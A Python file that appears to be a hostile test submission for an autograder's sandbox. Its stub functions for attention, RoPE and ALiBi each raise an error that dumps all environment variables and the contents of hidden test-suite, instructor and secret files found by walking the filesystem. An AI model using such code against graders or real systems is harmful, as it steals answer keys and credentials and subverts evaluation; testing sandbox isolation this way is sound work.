"""Hostile: looks for the hidden suite and instructor files wherever they might be, and sends what
it finds back in its error messages (which the student sees)."""

import os

LIKELY = (
    "/work/main/grader/suite/__init__.py",
    "/work/main/grader/suite/test_rope.py",
    "/work/main/grader/mutants/__init__.py",
    "/work/main/app_pages/instructor.py",
    "../secret_instructor.txt",
    "../../secret_instructor.txt",
    "/proc/1/root/work/main/grader/suite/__init__.py",
)
SKIP = ("/usr", "/proc", "/sys", "/dev", "/root/.pyenv")


def _loot() -> str:
    found = []
    for path in LIKELY:
        try:
            with open(path, errors="replace") as handle:
                found.append(f"{path}: {handle.read(300)}")
        except OSError:
            pass
    for start in ("/", "..", "../.."):
        for folder, subfolders, files in os.walk(start):
            if os.path.abspath(folder).startswith(SKIP) or folder.count(os.sep) > 10:
                subfolders[:] = []
                continue
            for name in files:
                if name.endswith((".py", ".txt", ".csv", ".toml")):
                    try:
                        with open(os.path.join(folder, name), errors="replace") as handle:
                            found.append(f"{folder}/{name}: {handle.read(300)}")
                    except OSError:
                        pass
    # The marker first: the judge clips long messages, and the test looks for it.
    return "LOOT: environment: " + str(dict(os.environ)) + " | " + " | ".join(found)


def attention(q, k, v, bias=None):
    raise RuntimeError(_loot())


def sinusoidal_encoding(seq_len, d_model, base=10000.0):
    raise RuntimeError(_loot())


def LearnedPositionalEmbedding(max_len, d_model):
    raise RuntimeError(_loot())


def apply_rope(x, positions=None, base=10000.0):
    raise RuntimeError(_loot())


def alibi_slopes(n_heads):
    raise RuntimeError(_loot())


def alibi_bias(n_heads, seq_len):
    raise RuntimeError(_loot())
